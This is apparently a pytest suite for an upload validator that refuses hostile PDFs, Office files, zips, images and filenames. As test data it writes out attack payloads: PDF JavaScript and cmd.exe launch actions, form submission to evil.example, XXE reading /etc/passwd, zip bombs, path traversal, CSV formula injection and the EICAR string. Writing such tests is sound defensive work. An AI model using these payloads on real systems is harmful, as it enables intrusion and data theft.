"""A file from outside is taken only when its name, its content and its structure are those of an honest file."""

import hashlib
import io
import json
import stat
import time
import zipfile
import zlib

import pypdf
import pytest

from assessments import confinement
from assessments.filesafety import ASSIGNMENT_KINDS, KINDS, Unsafe, examine, kind_and_display_name
from assessments.filesafety.pdf import examine_pdf
from tests.assessments import hostile

MEGABYTE = 1024 * 1024


def refusal(name: str, content: bytes, *, allowed: frozenset[str] = ASSIGNMENT_KINDS) -> Unsafe:
    """The refusal of a file; the test fails where the file is taken. Every sentence has to be one for people."""
    with pytest.raises(Unsafe) as caught:
        examine(name, content, allowed=allowed)
    unsafe = caught.value
    assert unsafe.status == (413 if unsafe.code == "file_too_large" else 400)
    assert unsafe.sentence.endswith(".")
    assert unsafe.sentence[0].isupper()
    assert unsafe.sentence.isprintable()
    assert len(unsafe.sentence) < 400
    return unsafe


# --- what is taken --------------------------------------------------------------------------------


def test_an_honest_pdf_is_taken_with_its_facts() -> None:
    content = hostile.pdf(3)
    examined = examine("Dossier.pdf", content)
    assert examined.kind == "pdf"
    assert examined.display_name == "Dossier.pdf"
    assert examined.pages == 3
    assert examined.size == len(content)
    assert examined.sha256 == hashlib.sha256(content).hexdigest()
    assert examined.notes == ()


def test_a_stream_is_read_whole_and_set_back() -> None:
    stream = io.BytesIO(hostile.pdf())
    stream.seek(7)
    assert examine("a.pdf", stream).size == len(stream.getvalue())
    assert stream.tell() == 0


def test_honest_office_files_are_taken() -> None:
    assert examine("a.docx", hostile.docx()).kind == "docx"
    slides = hostile.docx(kinds=(hostile.POWERPOINT, hostile.SLIDE, hostile.SLIDE))
    assert examine("a.pptx", slides).pages == 2


def test_a_document_written_in_one_go_has_its_sizes_behind_its_parts_and_is_taken() -> None:
    class OneWay(io.RawIOBase):
        def __init__(self) -> None:
            self.written = bytearray()

        def writable(self) -> bool:
            return True

        def write(self, data: bytes, /) -> int:  # type: ignore[override]
            self.written += data
            return len(data)

    out = OneWay()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in hostile.office_members(hostile.WORD):
            archive.writestr(name, body)
    assert b"PK\x07\x08" in out.written
    assert examine("a.docx", bytes(out.written)).kind == "docx"


def test_honest_plain_files_and_pictures_are_taken() -> None:
    for name, content in {
        "a.txt": "Grüße".encode(),
        "b.md": b"# Title\n",
        "c.csv": b"a,b\n1,-2.5\n",
        "d.png": hostile.png(),
        "e.JPEG": hostile.jpeg(),
        "f.txt": "Grüße".encode("utf-16"),
    }.items():
        examined = examine(name, content, allowed=ASSIGNMENT_KINDS)
        assert examined.notes == ()
    assert examine("e.JPEG", hostile.jpeg(), allowed=ASSIGNMENT_KINDS).kind == "jpg"


def test_a_kind_that_does_not_exist_is_a_mistake_of_the_caller() -> None:
    with pytest.raises(ValueError, match="svg"):
        examine("a.pdf", b"", allowed=frozenset({"svg"}))


# --- empty, foreign, too large --------------------------------------------------------------------


def test_b01_an_empty_file_is_refused() -> None:
    unsafe = refusal("a.pdf", b"")
    assert unsafe.code == "file_empty"
    assert "The file is empty" in unsafe.sentence


def test_b02_one_byte_is_no_pdf() -> None:
    unsafe = refusal("a.pdf", b"%")
    assert unsafe.code == "file_type"
    assert "This is not a PDF" in unsafe.sentence


def test_b03_a_web_page_named_pdf_is_refused() -> None:
    unsafe = refusal("a.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>")
    assert unsafe.code == "file_type"
    assert "web page" in unsafe.sentence


def test_b04_a_program_named_pdf_is_refused() -> None:
    unsafe = refusal("a.pdf", b"MZ\x90\x00" + b"\0" * 200)
    assert unsafe.code == "file_type"
    assert "Windows program" in unsafe.sentence


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", hostile.pdf()),
        ("a.pptx", hostile.docx()),
        ("a.docx", hostile.docx(kinds=(hostile.EXCEL,))),
        ("a.docx", hostile.zipped([("readme.txt", b"words")])),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        ("a.png", hostile.jpeg()),
        ("a.jpg", hostile.png()),
        ("a.png", hostile.png()[:40]),
        ("a.png", hostile.png() + b"<script>"),
        ("a.jpg", hostile.jpeg()[:30]),
        ("a.jpg", b"\xff\xd8" + b"\xff" * 100),
        ("a.txt", hostile.pdf()),
        ("a.txt", hostile.docx()),
        ("a.md", b"words\x00words"),
        ("a.csv", b"\xff\xfe\x00"),
    ],
)
def test_b04_a_file_of_another_kind_than_its_ending_is_refused(name: str, content: bytes) -> None:
    assert refusal(name, content).code == "file_type"


@pytest.mark.parametrize(
    "name",
    [
        "report.pdf.exe",
        "cv\u202efdp.exe",
        "cv\u202efdp.pdf",
        ".htaccess",
        ".pdf",
        "...pdf",
        "report",
        "",
        "report.",
        "report.exe.pdf",
        "report.php.pdf",
        "notes.svg",
        "notebook.ipynb",
        "archive.zip",
        "report.pdf\u200b.html",
    ],
)
def test_b05_a_name_with_a_wrong_or_hidden_ending_is_refused(name: str) -> None:
    assert refusal(name, hostile.pdf()).code == "file_name"


def test_b05_the_refusal_names_the_endings_that_are_taken() -> None:
    unsafe = refusal("report.pdf.exe", hostile.pdf(), allowed=frozenset({"pdf", "docx"}))
    assert "Only these endings: .docx, .pdf." in unsafe.sentence


def test_b06_one_byte_over_the_limit_is_refused() -> None:
    content = hostile.pdf()
    assert examine("a.pdf", content, max_bytes=len(content)).size == len(content)
    with pytest.raises(Unsafe) as caught:
        examine("a.pdf", content, max_bytes=len(content) - 1)
    assert caught.value.code == "file_too_large"
    assert caught.value.status == 413
    assert f"yours has {len(content):,} bytes" in caught.value.sentence


def test_b06_the_refusal_says_both_sizes() -> None:
    unsafe = refusal("a.pdf", b"\0" * (21 * MEGABYTE))
    assert "Limit 20 MB, yours has 21 MB" in unsafe.sentence


def test_b06_a_stream_is_not_read_past_the_limit() -> None:
    class Counting(io.BytesIO):
        taken = 0

        def read(self, size: int | None = -1, /) -> bytes:
            data = super().read(size)
            self.taken += len(data)
            return data

    stream = Counting(b"%PDF-1.7" + b"\0" * (4 * MEGABYTE))
    with pytest.raises(Unsafe):
        examine("a.pdf", stream, max_bytes=MEGABYTE)
    assert stream.taken == MEGABYTE + 1
    assert stream.tell() == 0


# --- two kinds in one file ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "other"),
    [
        (hostile.pdf() + b"<html><script>alert(1)</script></html>", "HTML"),
        (hostile.pdf() + hostile.zipped([("a.txt", b"words")]), "a zip archive"),
        (hostile.pdf(head=b"<html><script>alert(1)</script></html>\n"), "HTML"),
        (hostile.pdf(more={1000: b"(words) % <script>alert(1)</script>\n"}, words="x" * 2000), "HTML"),
        (hostile.pdf() + b"MZ and more", "something else"),
    ],
)
def test_b07_a_pdf_that_is_something_else_as_well_is_refused(content: bytes, other: str) -> None:
    unsafe = refusal("a.pdf", content)
    assert unsafe.code == "file_type"
    assert f"a PDF and {other} at once" in unsafe.sentence


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", hostile.docx(comment=b"%PDF-1.7 " * 40)),
        ("a.docx", hostile.docx(("word/a.bin", bytes(range(256)) * 9), comment=b"words " * 60)),
        ("a.docx", hostile.zipped([("%PDF-1.7", b"words"), *hostile.office_members(hostile.WORD)])),
        ("a.png", hostile.png()[:-12] + hostile.zipped([("a.txt", b"words")])),
        ("a.jpg", hostile.jpeg() + hostile.zipped([("a.txt", b"words")])),
    ],
)
def test_b07_other_files_that_are_something_else_as_well_are_refused(name: str, content: bytes) -> None:
    assert refusal(name, content).code == "file_type"


def test_b07_a_zip_with_something_in_front_of_it_is_no_office_file() -> None:
    assert refusal("a.docx", b"<html></html>" + hostile.docx()).code == "file_type"


# --- PDF that acts --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [
        hostile.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        hostile.pdf(catalog=b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),
        hostile.pdf(
            catalog=b"/OpenAction 1000 0 R", more={1000: b"<< /S 1001 0 R /JS (x) >>", 1001: b"/Java#53cript"}
        ),
        hostile.pdf(page=b"/AA << /O << /JS 1000 0 R >> >>", more={1000: hostile.stream(b"app.alert(1)")}),
        hostile.pdf(catalog=b"/Names << /JavaScript << /Names [(a) 1000 0 R] >> >>", more={1000: b"<< >>"}),
        hostile.pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        hostile.pdf(catalog=b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"),
        hostile.pdf(
            catalog=b"/Names << /EmbeddedFiles << /Names [(a) 1000 0 R] >> >>", more={1000: b"<< >>"}
        ),
        hostile.pdf(more={1000: b"<< /Type /Filespec /EF << /F 1001 0 R >> >>", 1001: hostile.stream(b"MZ")}),
        hostile.pdf(more={1000: b"<< /Type /Annot /Subtype /FileAttachment >>"}),
        hostile.pdf(catalog=b"/AcroForm << /XFA [(a) 1000 0 R] >>", more={1000: hostile.stream(b"<xdp/>")}),
        hostile.pdf(more={1000: b"<< /S /SubmitForm /F (https://evil.example/) >>"}),
        hostile.pdf_with_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        hostile.pdf_with_object_stream(b"<< /S /Java#53cript /JS (app.alert(1)) >>"),
        hostile.pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>", indexed=False),
        hostile.pdf_with_object_stream(b"<< /S /L#61unch /F (cmd.exe) >>"),
        hostile.pdf(head=b"99 0 obj\n<< /S /L#61unch /F (cmd.exe) >>\nendobj\n"),
    ],
)
def test_b08_a_pdf_that_acts_is_refused(content: bytes) -> None:
    unsafe = refusal("a.pdf", content)
    assert unsafe.code == "pdf_active"
    assert "PDF/A" in unsafe.sentence


def test_b08_a_pdf_that_opens_at_a_page_and_has_links_is_taken() -> None:
    content = hostile.pdf(
        catalog=b"/OpenAction [10 0 R /Fit] /Names << /EmbeddedFiles << /Names [] >> >>",
        page=b"/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/) >> >>]",
        words="JavaScript and Launch are only words here",
    )
    assert examine("a.pdf", content).pages == 1
    packed = hostile.pdf_with_object_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert examine("a.pdf", packed).pages == 1


@pytest.mark.parametrize("password", ["secret", ""])
def test_b09_a_locked_pdf_is_refused(password: str) -> None:
    writer = pypdf.PdfWriter(clone_from=io.BytesIO(hostile.pdf()))
    writer.encrypt(user_password=password, owner_password="owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    unsafe = refusal("a.pdf", out.getvalue())
    assert unsafe.code == "pdf_locked"
    assert "Remove the password" in unsafe.sentence


# --- PDF that is broken ---------------------------------------------------------------------------


@pytest.mark.parametrize("share", [0.2, 0.5, 0.9, 0.99])
def test_b10_a_cut_pdf_is_refused(share: float) -> None:
    content = hostile.pdf(4)
    unsafe = refusal("a.pdf", content[: int(len(content) * share)])
    assert unsafe.code == "pdf_broken"
    assert "cut" in unsafe.sentence


def test_b10_a_cut_pdf_with_a_new_end_is_refused() -> None:
    content = hostile.pdf(4)
    assert refusal("a.pdf", content[:600] + content[-40:]).code == "pdf_broken"


def test_b10_a_pdf_whose_index_is_elsewhere_is_refused() -> None:
    content = hostile.pdf()
    start = content.rindex(b"startxref\n") + 10
    wrong = content[:start] + b"9" + content[content.index(b"\n", start) :]
    unsafe = refusal("a.pdf", wrong)
    assert unsafe.code == "pdf_broken"
    assert "its index is not where its end says" in unsafe.sentence


@pytest.mark.parametrize("content", [hostile.pdf_with_page_loop(), hostile.pdf_of_doubling_pages(40)])
def test_b10_a_page_tree_that_runs_in_a_circle_is_refused(content: bytes) -> None:
    unsafe = refusal("a.pdf", content)
    assert unsafe.code == "pdf_broken"
    assert "circle" in unsafe.sentence


@pytest.mark.parametrize(
    "content",
    [
        hostile.pdf_of_one_page_many_times(3, declared=100_000),
        hostile.pdf_of_one_page_many_times(100_000, declared=3),
    ],
)
def test_b10_more_pages_than_can_be_read_are_refused(content: bytes) -> None:
    unsafe = refusal("a.pdf", content)
    assert unsafe.code == "pdf_pages"
    assert "At most 1,000" in unsafe.sentence


@pytest.mark.parametrize(
    "content",
    [
        hostile.pdf_of({1: b"<< /Type /Catalog >>"}),
        hostile.pdf(0),
        hostile.pdf_of(
            {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Count 1 /Kids [9 0 R] >>"}
        ),
        hostile.pdf(more={1000: b"[" * 100_000}),
    ],
)
def test_b10_a_pdf_without_sound_pages_or_with_endless_nesting_is_refused(content: bytes) -> None:
    assert refusal("a.pdf", content).code == "pdf_broken"


def test_b10_a_lie_about_the_number_of_pages_is_noted() -> None:
    examined = examine("a.pdf", hostile.pdf_of_one_page_many_times(3, declared=9))
    assert examined.pages == 3
    assert "another number of pages" in examined.notes[0]


def test_b10_a_pdf_made_to_be_read_for_ever_ends_with_its_time() -> None:
    started = time.monotonic()
    with pytest.raises(Unsafe) as caught:
        examine_pdf(hostile.pdf_that_never_ends(20_000), seconds=1)
    assert caught.value.code == "pdf_broken"
    assert time.monotonic() - started < 15


# --- the child process ----------------------------------------------------------------------------


def test_b10_memory_of_a_reading_is_limited() -> None:
    bomb = zlib.compress(b"\0" * (96 * MEGABYTE))
    with pytest.raises(confinement.Exceeded):
        confinement.confined("zlib:decompress", bomb, seconds=10, memory=96 * MEGABYTE)


def test_b10_a_reading_that_crashes_is_told_from_one_that_refuses() -> None:
    with pytest.raises(confinement.Crashed):
        confinement.confined("zlib:decompress", b"no zlib", seconds=5, memory=200 * MEGABYTE)


# --- zips -----------------------------------------------------------------------------------------


def test_b11_a_zip_of_zeros_is_refused() -> None:
    content = hostile.docx(("word/media/zeros.bin", b"\0" * (64 * MEGABYTE)))
    assert len(content) < 100_000
    unsafe = refusal("a.docx", content)
    assert unsafe.code == "zip_ratio"
    assert "unpacks to 64 MB" in unsafe.sentence


def test_b12_a_bomb_whose_parts_share_their_bytes_is_refused_unopened() -> None:
    content = hostile.overlapping_bomb(640, 10 * MEGABYTE)
    assert len(content) < 60_000
    assert refusal("a.docx", content).code == "zip_ratio"


def test_b12_parts_that_share_their_bytes_are_refused_at_any_size() -> None:
    for content in (hostile.overlapping_bomb(3, 1000), hostile.parts_inside_each_other()):
        assert refusal("a.docx", content).code == "zip_broken"
    assert "share their bytes" in refusal("a.docx", hostile.parts_inside_each_other()).sentence


def test_b13_a_zip_in_a_zip_is_refused() -> None:
    inner = hostile.zipped([("a.txt", b"words")])
    for _ in range(5):
        inner = hostile.zipped([("inner.zip", inner)])
    assert refusal("a.docx", hostile.docx(("word/inner.zip", inner))).code == "zip_nested"
    assert refusal("a.docx", hostile.docx(("word/media/image1.png", inner))).code == "zip_nested"


def test_b13_a_workbook_behind_a_chart_is_taken_and_examined() -> None:
    workbook = hostile.docx(kinds=(hostile.EXCEL,))
    examined = examine("a.docx", hostile.docx(("word/embeddings/Sheet1.xlsx", workbook)))
    assert "Other office files inside it: 1." in examined.notes[0]
    deeper = hostile.docx(("xl/embeddings/Sheet2.xlsx", workbook), kinds=(hostile.EXCEL,))
    assert refusal("a.docx", hostile.docx(("word/embeddings/Sheet1.xlsx", deeper))).code == "zip_nested"
    macros = hostile.docx(("xl/vbaProject.bin", b"words"), kinds=(hostile.EXCEL,))
    assert refusal("a.docx", hostile.docx(("word/embeddings/Sheet1.xlsx", macros))).code == "office_active"


def test_b14_twelve_thousand_entries_are_refused() -> None:
    content = hostile.zipped([(f"word/{n}.bin", b"") for n in range(12_000)])
    unsafe = refusal("a.docx", content)
    assert unsafe.code == "zip_entries"
    assert "5,000" in unsafe.sentence


@pytest.mark.parametrize(
    "name", ["../../x", "/abs", "a\\..\\b", "C:\\x", "C:x", "word/../../x", "word/\x1b[31mx", "word/\nx"]
)
def test_b15_a_path_out_of_the_file_is_refused_and_shown_escaped(name: str) -> None:
    info = zipfile.ZipInfo("placeholder")
    info.filename = name
    unsafe = refusal("a.docx", hostile.docx((info, b"words")))
    assert unsafe.code == "zip_path"
    assert name in unsafe.sentence or "\\x1b" in unsafe.sentence or "\\n" in unsafe.sentence


@pytest.mark.parametrize(
    "mode", [stat.S_IFLNK | 0o777, stat.S_IFCHR | 0o666, stat.S_IFBLK | 0o666, stat.S_IFIFO | 0o666]
)
def test_b16_a_link_or_device_is_refused(mode: int) -> None:
    assert (
        refusal("a.docx", hostile.docx((hostile.linked("word/link", mode), b"/etc/passwd"))).code
        == "zip_link"
    )


@pytest.mark.parametrize(
    "extra",
    [
        b"\x0d\x00\x18\x00" + b"\0" * 12 + b"/etc/passwd\0",
        b"\x6e\x75\x12\x00" + b"\0" * 4 + b"\xff\xa1" + b"\x04\0\0\0" + b"\0" * 4 + b"/etc",
    ],
)
def test_b16_a_hard_link_in_an_extra_field_is_refused(extra: bytes) -> None:
    info = zipfile.ZipInfo("word/link")
    info.extra = extra
    assert refusal("a.docx", hostile.docx((info, b"words"))).code == "zip_link"


@pytest.mark.filterwarnings("ignore:Duplicate name:UserWarning")
@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("word/a.bin", "word/a.bin"),
        ("word/a.bin", "word/A.BIN"),
        ("word/\u00e9.bin", "word/e\u0301.bin"),
        ("word/stra\u00dfe", "word/STRASSE"),
        ("word/a.bin", "word/a.bin."),
    ],
)
def test_b17_two_parts_of_one_name_are_refused(one: str, other: str) -> None:
    assert refusal("a.docx", hostile.docx((one, b"one"), (other, b"other"))).code == "zip_twice"


def test_b18_a_locked_document_is_refused() -> None:
    assert refusal("a.docx", hostile.locked_office()).code == "zip_locked"
    locked = hostile.patched(hostile.docx(("word/a.bin", b"words")), "word/a.bin", flags=1)
    assert refusal("a.docx", locked).code == "zip_locked"
    secretly = bytearray(hostile.docx(("word/a.bin", b"words")))
    secretly[secretly.index(b"word/a.bin") - 24] |= 1
    assert refusal("a.docx", bytes(secretly)).code == "zip_locked"


@pytest.mark.parametrize("share", [0.1, 0.5, 0.9, 0.99])
def test_b18_a_cut_document_is_refused(share: float) -> None:
    content = hostile.docx(("word/a.bin", bytes(range(256)) * 40))
    assert refusal("a.docx", content[: int(len(content) * share)]).code == "zip_broken"


@pytest.mark.parametrize("fields", [{"size": 100}, {"size": 2 * MEGABYTE}, {"crc": 7}, {"packed": 40}])
def test_b18_a_header_that_lies_is_refused(fields: dict[str, int]) -> None:
    content = hostile.docx(("word/a.bin", b"ab" * (MEGABYTE // 2)))
    unsafe = refusal("a.docx", hostile.patched(content, "word/a.bin", **fields))
    assert unsafe.code == "zip_broken"


def test_b18_a_header_that_lies_to_one_reader_only_is_refused() -> None:
    content = bytearray(hostile.docx(("word/a.bin", b"words")))
    place = content.index(b"word/a.bin")
    content[place : place + 10] = b"word/b.bin"
    assert refusal("a.docx", bytes(content)).code == "zip_broken"


def test_b18_bytes_that_belong_to_no_part_are_refused() -> None:
    whole = hostile.docx(("word/a.bin", b"words"))
    hidden = hostile.patched(whole, "word/a.bin", flags=0)
    start = hidden.index(b"PK\x01\x02")
    moved = bytearray(hidden[:start] + b"hidden" * 20 + hidden[start:])
    end = moved.rindex(b"PK\x05\x06")
    moved[end + 16 : end + 20] = (start + 120).to_bytes(4, "little")
    assert refusal("a.docx", bytes(moved)).code == "zip_broken"
    honest = [hostile.part(str(name), body) for name, body in hostile.office_members(hostile.WORD)]
    assert examine("a.docx", hostile.raw_zip(honest)).kind == "docx"
    behind = hostile.raw_zip([*honest, hostile.part("word/a.bin", b"words", behind=b"hidden")])
    assert refusal("a.docx", behind).code == "zip_broken"


def test_b18_damaged_bytes_are_refused() -> None:
    content = bytearray(hostile.docx(("word/a.bin", bytes(range(256)) * 8)))
    place = content.index(b"word/a.bin") + 30
    content[place : place + 8] = b"\xff" * 8
    assert refusal("a.docx", bytes(content)).code == "zip_broken"


# --- names that are kept --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "display_name"),
    [
        ("x" * 300 + ".pdf", "x" * 96 + ".pdf"),
        ("\U0001f600" * 300 + ".pdf", "\U0001f600" * 96 + ".pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("lpt1.final.pdf", "_lpt1.final.pdf"),
        ("thesis.pdf.", "thesis.pdf"),
        ("thesis.pdf  ", "thesis.pdf"),
        ("Re\u0301sume\u0301.pdf", "R\u00e9sum\u00e9.pdf"),
        ("a\u200bb\ufeff.pdf", "ab.pdf"),
        ("v1.2 final.PDF", "v1.2 final.PDF"),
        ("example.com.pdf", "example.com.pdf"),
        ("\u05e2\u05d1\u05e8\u05d9\u05ea.pdf", "\u05e2\u05d1\u05e8\u05d9\u05ea.pdf"),
    ],
)
def test_b19_an_odd_name_is_kept_for_people(name: str, display_name: str) -> None:
    assert kind_and_display_name(name, ASSIGNMENT_KINDS) == ("pdf", display_name)
    assert len(display_name) <= 100


def test_b19_an_odd_name_goes_with_an_honest_file() -> None:
    assert examine("x" * 300 + ".pdf ", hostile.pdf()).display_name == "x" * 96 + ".pdf"


def test_b20_markup_and_paths_in_a_name_are_text() -> None:
    content = b"words"
    names = {
        "<img src=x onerror=alert(1)>.txt": "<img src=x onerror=alert(1)>.txt",
        "../../etc/passwd.txt": "passwd.txt",
        "C:\\Users\\me\\thesis.txt": "thesis.txt",
        'a"; filename="b.txt': 'a"; filename="b.txt',
    }
    for name, display_name in names.items():
        assert examine(name, content, allowed=ASSIGNMENT_KINDS).display_name == display_name


@pytest.mark.parametrize(
    "name", ['"; filename="b.html', "a\r\nSet-Cookie: x.pdf", "a\x00.pdf", "a\x1b[31m.pdf", "a\udc80.pdf"]
)
def test_b20_a_name_that_could_break_a_header_is_refused(name: str) -> None:
    assert refusal(name, hostile.pdf()).code == "file_name"


# --- pictures, XML, viruses, files that run elsewhere ---------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.png", hostile.png(30_000, 30_000)),
        ("a.png", hostile.png(65_000, 65_000)),
        ("a.jpg", hostile.jpeg(60_000, 60_000)),
    ],
)
def test_b21_a_picture_of_too_many_points_is_refused(name: str, content: bytes) -> None:
    assert refusal(name, content).code == "image_pixels"


def test_b23_svg_is_not_taken() -> None:
    assert refusal("a.svg", b"<svg onload='alert(1)'/>").code == "file_name"
    assert (
        refusal("a.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").code == "file_type"
    )


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("word/styles.xml", hostile.BILLION_LAUGHS),
        ("word/styles.xml", b'<!DOCTYPE a SYSTEM "http://evil.example/x.dtd"><a/>'),
        ("word/styles.xml", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")),
        ("word/_rels/document.xml.rels", b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
        ("word/media/drawing.svg", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg/>'),
        ("word/media/noending", b'<?xml version="1.0"?><!DOCTYPE a><a/>'),
        ("word/drawing.vml", b" " * 70_000 + b"<!DOCTYPE a><a/>"),
    ],
)
def test_b24_a_doctype_in_any_part_is_refused(name: str, body: bytes) -> None:
    unsafe = refusal("a.docx", hostile.docx((name, body)))
    assert unsafe.code == "xml_dtd"


def test_b24_xml_that_is_no_xml_is_refused() -> None:
    assert refusal("a.docx", hostile.docx(("word/styles.xml", b"<a><b></a>"))).code == "zip_broken"


@pytest.mark.parametrize("name", ["a.txt", "a.pdf", "a.docx", "a.png"])
def test_b25_the_test_virus_is_found_by_its_content(name: str) -> None:
    unsafe = refusal(name, hostile.EICAR)
    assert unsafe.code == "virus"
    assert "The scanner flagged this file" in unsafe.sentence


def test_b25_the_test_virus_is_found_in_a_part_of_a_document() -> None:
    assert refusal("a.docx", hostile.docx(("word/media/a.bin", hostile.EICAR))).code == "virus"


@pytest.mark.parametrize(
    "content",
    [
        hostile.docx(("word/vbaProject.bin", b"words")),
        hostile.docx(kinds=("application/vnd.ms-word.document.macroEnabled.main+xml",)),
        hostile.docx(
            (
                "word/_rels/x.rels",
                b'<R xmlns="r"><Relationship Type="http://x/vbaProject" Target="odd.bin"/></R>',
            )
        ),
        hostile.docx(("word/embeddings/setup.exe", b"MZ")),
    ],
)
def test_b08_a_document_with_macros_or_programs_is_refused(content: bytes) -> None:
    assert refusal("a.docx", content).code == "office_active"


def test_b08_what_a_document_loads_from_outside_is_noted() -> None:
    relations = (
        '<Relationships xmlns="r">'
        '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/\u202ex.dotm" TargetMode="External"/>'
        '<Relationship Type="http://x/hyperlink" Target="https://example.org/" TargetMode="External"/>'
        "</Relationships>"
    )
    examined = examine("a.docx", hostile.docx(("word/_rels/settings.xml.rels", relations.encode())))
    assert len(examined.notes) == 1
    assert "attachedTemplate" in examined.notes[0]
    assert "evil.example" in examined.notes[0]
    assert "\u202e" not in examined.notes[0]


def test_b28_formulas_in_a_table_are_kept_and_noted() -> None:
    for cells in (b"name,sum\nada,=1+1\n", b"@SUM(1)\n", b'a;"=HYPERLINK(1)"\n', b"a\t+cmd|x\n"):
        assert "formulas" in examine("a.csv", cells, allowed=ASSIGNMENT_KINDS).notes[0]
    assert examine("a.csv", b"a,-5\n+3.5,b@c.example\n", allowed=ASSIGNMENT_KINDS).notes == ()


def test_b28_a_notebook_with_output_that_runs_is_kept_and_noted() -> None:
    outputs = [{"output_type": "display_data", "data": {"text/html": ["<script>alert(1)</script>"]}}]
    notebook = {"nbformat": 4, "cells": [{"cell_type": "code", "source": [], "outputs": outputs}]}
    examined = examine("a.ipynb", json.dumps(notebook).encode(), allowed=KINDS)
    assert examined.kind == "ipynb"
    assert "download only" in examined.notes[0]
    notebook["cells"] = []
    assert examine("a.ipynb", json.dumps(notebook).encode(), allowed=KINDS).notes == ()


@pytest.mark.parametrize("body", [b"[", b"{'a': 1}", b"[" * 100_000, b"", b"\x00"])
def test_b28_json_that_cannot_be_read_is_refused(body: bytes) -> None:
    assert refusal("a.json", body, allowed=KINDS).code in ("file_type", "file_empty")


def test_b28_a_text_with_markup_is_kept_and_noted() -> None:
    assert "HTML" in examine("a.md", b"# Title\n<script>alert(1)</script>", allowed=ASSIGNMENT_KINDS).notes[0]
